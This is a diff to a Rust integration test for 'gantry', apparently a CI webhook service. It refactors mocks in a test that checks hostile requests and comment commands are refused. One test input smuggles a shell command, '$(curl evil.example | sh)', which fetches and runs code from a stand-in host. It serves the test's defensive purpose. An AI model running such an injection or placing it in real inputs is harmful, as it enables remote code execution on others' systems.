@@ -6,12 +6,10 @@
 
 mod common;
 
-use common::runs::{Harness, REPO, ROOT_WORKSPACE, grant_installation_token};
+use common::runs::{Harness, REPO, ROOT_WORKSPACE};
 use common::{SECRET, fixture, push_payload};
 use gantry::webhook::signature::sign;
 use serde_json::{Value, json};
-use wiremock::matchers::{method, path_regex};
-use wiremock::{Mock, ResponseTemplate};
 
 /// A request refused at the door: (name, headers, body, status, words the error must contain).
 struct Refused {
@@ -458,13 +456,7 @@ async fn hostile_requests_and_payloads_get_clear_answers_and_change_nothing_they
 
     // Comment commands from a writer: metacharacters and huge option lists start nothing and
     // get the usage back.
-    Mock::given(method("GET"))
-        .and(path_regex(
-            r"^/repos/octo-org/infra/collaborators/alice/permission$",
-        ))
-        .respond_with(ResponseTemplate::new(200).set_body_json(json!({ "permission": "write" })))
-        .mount(&h.gantry.github)
-        .await;
+    h.gantry.github.grant(REPO, "alice", "write");
     let huge = format!("/gantry plan {}", "-w a ".repeat(5_000));
     for (n, body) in [
         "/gantry plan -w \"$(curl evil.example | sh)\"",
@@ -499,7 +491,6 @@ async fn hostile_requests_and_payloads_get_clear_answers_and_change_nothing_they
 
     // Still healthy, and it still does its job.
     assert_eq!(h.gantry.get("/readyz").await.status(), 200);
-    grant_installation_token(&h.gantry.github).await;
     let fine = push_payload(REPO, "main", &"2".repeat(40), &["main.tf"], |_| {});
     assert_eq!(
         h.gantry
